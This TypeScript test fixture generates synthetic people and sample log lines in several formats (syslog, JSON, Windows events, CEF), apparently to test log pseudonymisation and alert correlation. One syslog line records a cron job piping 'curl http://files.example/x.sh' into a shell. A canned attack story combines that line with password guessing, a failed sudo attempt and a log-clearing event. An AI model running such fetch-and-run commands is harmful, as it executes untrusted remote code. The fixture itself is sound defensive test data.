// Stories about somebody: logs in several formats and texts that people type, with placeholders for the person.
import type { LogFormat } from '@wardline/registries'
import fc from 'fast-check'

/** What a story may say of somebody. */
export interface Person {
  readonly user: string
  readonly given: string
  readonly family: string
  readonly host: string
  readonly ip: string
  readonly mac: string
}

/** Letters that make no word of any language: two such persons differ in nothing but who they are. */
const letters = (length: number) =>
  fc.string({ unit: fc.constantFrom(...'bcdfgklmnprtvz'), minLength: length, maxLength: length })
const capital = (text: string): string => text.charAt(0).toUpperCase() + text.slice(1)
const address = {
  ip: fc.tuple(fc.integer({ min: 11, max: 99 }), fc.integer({ min: 100, max: 255 })).map(([a, b]) => `${a}.${b}.88.77`),
  mac: fc
    .array(fc.constantFrom(...'123456789abcde'), { minLength: 10, maxLength: 10 })
    .map(digits => `02:${digits.join('').replace(/(..)(?=.)/g, '$1:')}`),
}

export const somebody: fc.Arbitrary<Person> = fc.record({
  user: letters(7).map(s => `q${s}`),
  given: letters(5).map(s => capital(`x${s}`)),
  family: letters(6).map(s => capital(`q${s}`)),
  host: letters(6).map(s => `w${s}9`),
  ...address,
})

/** People whose names are words. */
const namedLikeWords = (given: readonly string[], family: readonly string[]): fc.Arbitrary<Person> =>
  fc
    .record({ given: fc.constantFrom(...given), family: fc.constantFrom(...family), ...address })
    .map(who => ({ ...who, user: who.family.toLowerCase(), host: `${who.given.toLowerCase()}-pc` }))

export const wordNames = {
  left: namedLikeWords(['Will', 'Mark', 'Rose'], ['Key', 'Stone', 'Page']),
  right: namedLikeWords(['Grant', 'Hope', 'Drew'], ['Agent', 'Stream', 'Field']),
}

/** Where a story's piece goes: to the source of a format, or into a ticket. */
export interface Piece {
  readonly to: LogFormat
  readonly text: string
}

const log = (to: LogFormat, ...texts: readonly string[]): Piece[] => texts.map(text => ({ to, text }))
const json = (event: object): string => JSON.stringify(event)
const windows = (EventID: number, EventData: object): string =>
  json({ EventID, Channel: 'Security', Provider: 'Microsoft-Windows-Security-Auditing', Computer: '<host>', EventData })

export const LOGS: readonly Piece[] = [
  ...log(
    'syslog',
    '<86>Nov 21 09:29:00 <host> sshd[4242]: Failed password for <user> from <ip> port 52144 ssh2',
    '<86>Nov 21 09:29:00 <host> sshd[4242]: Failed password for invalid user <user> from <ip> port 52144 ssh2',
    '<86>Nov 21 09:29:00 web sshd[4242]: Accepted publickey for <user> from <ip> port 52144 ssh2: RSA SHA256:abc',
    '<85>Nov 21 09:29:00 <host> sudo: <user> : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/<user> ; USER=root ; COMMAND=/bin/sh',
    '<78>Nov 21 09:29:00 <host> CRON[99]: (<user>) CMD (curl http://files.example/x.sh | sh)',
    '<30>Nov 21 09:29:00 web dhcpd: DHCPACK on <ip> to <mac> (<host>) via eth0',
    '<14>Nov 21 09:29:00 web app: job finished in 12 ms',
    '<14>Nov 21 09:29:00 web app: could not open /home/<user>/report.txt for <given> <family>',
    '<14>Nov 21 09:29:00 web app: session of <user>@corp.example ended; C:\\Users\\<user>\\a.exe was left',
  ),
  ...log(
    'json',
    json({ level: 'error', msg: 'Order 17 of <given> <family> was refused', user: '<user>', src_ip: '<ip>' }),
    json({ message: 'the patient was admitted', patient: { name: '<given> <family>', mail: '<user>@corp.example' } }),
    json({ msg: 'cache is full', service: 'billing', took_ms: 12 }),
    json({ event: 'login', '<user>': 'seen', who: { given: '<given>', family: '<family>' }, host: '<host>' }),
    json({ event: 'login', '<user>': 'seen', user: '<user>' }),
    json({ note: '<given> called <family> about the password reset' }),
  ),
  ...log(
    'windows_event',
    windows(4625, {
      TargetUserName: '<user>',
      TargetDomainName: 'CORP',
      IpAddress: '<ip>',
      LogonType: '3',
      WorkstationName: '<host>',
    }),
    windows(4624, { TargetUserName: '<user>', TargetDomainName: 'CORP', IpAddress: '<ip>', LogonType: '10' }),
    windows(1102, { SubjectUserName: '<user>', SubjectDomainName: 'CORP' }),
    windows(4688, {
      SubjectUserName: '<user>',
      NewProcessName: 'C:\\Users\\<user>\\tool.exe',
      CommandLine: 'tool.exe -u <user>',
    }),
  ),
  ...log(
    'cef',
    'CEF:0|Acme|Wall|1.0|100|Login failed|5|suser=<user> src=<ip> dhost=<host> msg=wrong password for <user>',
    'CEF:0|Acme|Wall|1.0|200|Connection closed|3|src=<ip> dst=198.51.100.9 dpt=443 smac=<mac> act=blocked',
  ),
  ...log('kv', 'action=login user=<user> ip=<ip> result=failure reason="unknown to <given> <family>"'),
]

/** What people type about somebody. */
export const TYPED = [
  '<given> <family> cannot sign in since this morning.',
  'Ask <user> about <host>, please; the address was <ip>.',
  'Mail of <user>@corp.example is late.',
  'The disk of the server is full.',
  '<family> says that the report is wrong.',
] as const

/** A piece of a story as it happened to somebody. */
export const tell = (text: string, who: Person): string =>
  text.replace(/<(user|given|family|host|ip|mac)>/g, (_, member: keyof Person) => who[member])

export interface Ticket {
  readonly title: string
  readonly description: string
  readonly comment: string
}

export interface Story {
  readonly logs: readonly Piece[]
  readonly tickets: readonly Ticket[]
}

const typed = fc.constantFrom(...TYPED)
const logsOf = (pieces: readonly Piece[]) => fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 8 })

const tickets = fc.array(fc.record({ title: typed, description: typed, comment: typed }), { maxLength: 2 })

export const story: fc.Arbitrary<Story> = fc.record({
  logs: logsOf(LOGS),
  tickets,
})

/** Somebody guesses passwords: alerts of single events, and of correlations, which show what they group by. */
export const attack: Story = {
  logs: [
    ...Array.from({ length: 5 }, () => LOGS[0] as Piece),
    ...LOGS.filter(({ text }) => /NOT in sudoers|curl http|"EventID":1102/.test(text)),
  ],
  tickets: [],
}
